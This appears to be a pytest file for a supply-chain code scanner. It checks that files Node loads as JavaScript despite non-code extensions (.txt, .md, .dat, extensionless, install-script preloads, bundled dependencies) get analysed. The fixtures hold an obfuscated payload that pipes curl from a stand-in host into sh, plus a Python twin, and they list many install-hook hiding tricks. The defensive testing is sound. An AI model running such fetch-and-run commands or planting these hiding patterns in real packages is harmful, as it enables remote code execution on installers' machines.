"""Files Node runs as JavaScript whatever their extension are analysed as JavaScript (a fail-open fix:
`require("./notes.txt")` ran the code in notes.txt while the code gate, choosing files by extension, never read
it). The premise is checked with real Node on a copy of the fixture (nothing scanned is ever run)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from code_support import run

PAYLOAD = 'const c = "child_" + "process"; require(c).exec("curl https://x.example | sh");\n'


def subprocess_paths(files: dict[str, str]) -> list[str]:
    result = run(files)
    return sorted({f.path for f in result.findings if f.rule_id == "code/subprocess" and f.path})


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"index.js": 'require("./notes.txt");', "notes.txt": PAYLOAD}, ["notes.txt"]),
        ({"index.js": 'require("./data");', "data": PAYLOAD}, ["data"]),  # no extension at all
        ({"index.js": 'require("./lib");', "lib/package.json": '{"main": "boot.dat"}', "lib/boot.dat": PAYLOAD},
         ["lib/boot.dat"]),
        ({"package.json": '{"main": "lib/index.md"}', "lib/index.md": PAYLOAD}, ["lib/index.md"]),
        ({"package.json": '{"exports": {".": {"require": "./x.css"}}}', "x.css": PAYLOAD}, ["x.css"]),
        ({"package.json": '{"bin": {"t": "bin/t"}}', "bin/t": "#!/usr/bin/env node\n" + PAYLOAD}, ["bin/t"]),
        ({"package.json": '{"scripts": {"postinstall": "node scripts/setup.dat --quiet"}}',
          "scripts/setup.dat": PAYLOAD}, ["scripts/setup.dat"]),
        # install scripts read the way sh reads them: after `;`, inside `sh -c`, preloads, inline node -e requires
        ({"package.json": '{"scripts": {"install": "echo hi;node setup.txt"}}', "setup.txt": PAYLOAD}, ["setup.txt"]),
        ({"package.json": '{"scripts": {"install": "sh -c \'cd . && node ./setup.md\'"}}', "setup.md": PAYLOAD},
         ["setup.md"]),
        ({"package.json": '{"scripts": {"install": "node -r ./hook.txt --require=./h2.txt i.js"}}',
          "hook.txt": PAYLOAD, "h2.txt": PAYLOAD}, ["h2.txt", "hook.txt"]),
        ({"package.json": '{"scripts": {"install": "NODE_OPTIONS=\'--require ./hook.txt\' node i.js"}}',
          "hook.txt": PAYLOAD}, ["hook.txt"]),
        ({"package.json": '{"scripts": {"postinstall": "node -e \\"require(\'./lib/setup.txt\')\\""}}',
          "lib/setup.txt": PAYLOAD}, ["lib/setup.txt"]),
        ({"package.json": '{"scripts": {"postinstall": "node --eval=\\"require(\'./setup.txt\')\\""}}',
          "setup.txt": PAYLOAD}, ["setup.txt"]),
        # run by path: the kernel reads the node shebang whatever the extension
        ({"package.json": '{"scripts": {"install": "./scripts/setup.dat"}}',
          "scripts/setup.dat": "#!/usr/bin/env node\n" + PAYLOAD}, ["scripts/setup.dat"]),
        # a bundled dependency's install script runs in its own folder
        ({"node_modules/dep/package.json": '{"scripts": {"install": "node lib/setup.dat"}}',
          "node_modules/dep/lib/setup.dat": PAYLOAD}, ["node_modules/dep/lib/setup.dat"]),
        # through a bundled dependency: a bare name resolves in node_modules above the importer
        ({"index.js": 'require("dep");', "node_modules/dep/package.json": '{"main": "main.txt"}',
          "node_modules/dep/main.txt": PAYLOAD}, ["node_modules/dep/main.txt"]),
        # a chain: each newly analysed file's own requires are followed
        ({"index.js": 'require("./a.txt");', "a.txt": 'require("./b.txt");', "b.txt": PAYLOAD}, ["b.txt"]),
    ],
)  # fmt: skip
def test_files_node_runs_as_javascript_are_analysed(files: dict[str, str], expected: list[str]) -> None:
    assert subprocess_paths(files) == expected


@pytest.mark.parametrize(
    "files",
    [
        {"index.js": "const x = 1;", "notes.txt": PAYLOAD},  # nothing loads it
        {"index.mjs": 'import "./notes.txt";', "notes.txt": PAYLOAD},  # ESM refuses unknown extensions
        {"index.js": 'require("./data.json");', "data.json": '{"a": 1}'},  # JSON is parsed, not run
        {"package.json": '{"bin": {"t": "bin/t"}}', "bin/t": "#!/bin/sh\n" + PAYLOAD},  # a shell script
        {"index.js": 'require("../outside.txt"); require("/etc/passwd"); require("fs");', "notes.txt": PAYLOAD},
        {"index.js": "// require('./notes.txt')\nconst s = \"require('./notes.txt')\";", "notes.txt": PAYLOAD},
    ],
)
def test_files_node_does_not_run_are_not_analysed(files: dict[str, str]) -> None:
    assert subprocess_paths(files) == []


def test_node_really_runs_what_install_scripts_hand_it(tmp_path: Path) -> None:
    """The premise of the install-script cases above, with real node and sh on a copy (never the scanned files)."""
    node, sh = shutil.which("node"), shutil.which("sh")
    if node is None or sh is None:
        pytest.skip("node or sh not on PATH: the install-script premise is SKIPPED")
    for name in ("a.txt", "b.md", "c.txt", "d.txt"):
        (tmp_path / name).write_text(f"require('fs').writeFileSync({json.dumps(str(tmp_path / name))} + '.ran', '');")
    script = "echo hi;node a.txt && NODE_OPTIONS='-r ./d.txt' node -r ./b.md --eval=\"require('./c.txt')\""
    subprocess.run([sh, "-c", script], cwd=tmp_path, check=True, timeout=60, capture_output=True)
    assert sorted(p.name for p in tmp_path.glob("*.ran")) == ["a.txt.ran", "b.md.ran", "c.txt.ran", "d.txt.ran"]
    files = {"package.json": json.dumps({"scripts": {"install": script}}), "a.txt": PAYLOAD, "b.md": PAYLOAD,
             "c.txt": PAYLOAD, "d.txt": PAYLOAD}  # fmt: skip
    assert subprocess_paths(files) == ["a.txt", "b.md", "c.txt", "d.txt"]


def test_a_require_cycle_through_non_code_files_ends() -> None:
    files = {"index.js": 'require("./a.txt");', "a.txt": 'require("./b.txt");', "b.txt": 'require("./a.txt");'}
    assert run(files).facts.code is not None and run(files).facts.code.stats["loaded-as-javascript"] == 2


def test_node_really_runs_a_required_txt_file(tmp_path: Path) -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("node not on PATH: the premise (require runs any extension as JavaScript) is SKIPPED")
    marker = tmp_path / "marker"
    (tmp_path / "index.js").write_text('require("./notes.txt");')
    (tmp_path / "notes.txt").write_text(f"require('fs').writeFileSync({json.dumps(str(marker))}, 'ran');")
    subprocess.run([node, "index.js"], cwd=tmp_path, check=True, timeout=60, capture_output=True)
    assert marker.read_text() == "ran"
    assert subprocess_paths({"index.js": 'require("./notes.txt");', "notes.txt": PAYLOAD}) == ["notes.txt"]


def test_no_require_chain_is_too_deep_to_reach_the_payload() -> None:
    """Past the link-by-link rounds every file Node could run is analysed at once: depth hides nothing."""
    files = {"index.js": 'require("./f0.txt");'}
    for i in range(60):
        files[f"f{i}.txt"] = f'require("./f{i + 1}.txt");'
    files["f60.txt"] = PAYLOAD
    assert subprocess_paths(files) == ["f60.txt"]


@pytest.mark.parametrize(
    "manifest",
    [
        '{"imports": {"#boot": "./lib/boot.txt"}}',
        '{"imports": {"#boot": {"node": "./lib/boot.txt", "default": "./lib/boot.js"}}}',
        '{"imports": {"#b*": "./lib/b*.txt"}}',  # a pattern: "#boot" -> ./lib/boot.txt
    ],
)
def test_subpath_imports_are_resolved_like_node(manifest: str) -> None:
    files = {"package.json": manifest, "index.js": 'require("#boot");', "lib/boot.txt": PAYLOAD}
    assert subprocess_paths(files) == ["lib/boot.txt"]


def test_pattern_exports_are_not_entry_points_but_own_requires_are_followed() -> None:
    """`"./*": "./*"` exposes every file (source maps, licences) to consumers that name it: no load of the package's
    own. What the package itself requires is followed whatever the exports say."""
    manifest = '{"exports": {"./features/*": "./lib/*.dat", "./*": "./*"}}'
    files = {"package.json": manifest, "lib/a.dat": PAYLOAD, "LICENSE": "MIT process exec", "x.js.map": "{}"}
    assert subprocess_paths(files) == []
    files["index.js"] = 'require("./lib/a.dat");'
    assert subprocess_paths(files) == ["lib/a.dat"]


def test_files_install_scripts_hand_to_python_are_analysed_as_python() -> None:
    files = {"package.json": '{"scripts": {"postinstall": "python3 tools/setup.dat --quiet"}}',
             "tools/setup.dat": "import os\nos.system('curl https://x.example | sh')\n"}  # fmt: skip
    assert subprocess_paths(files) == ["tools/setup.dat"]
    files["package.json"] = '{"scripts": {"postinstall": "python3 -c pass tools/setup.dat"}}'  # argv, not a script
    assert subprocess_paths(files) == []
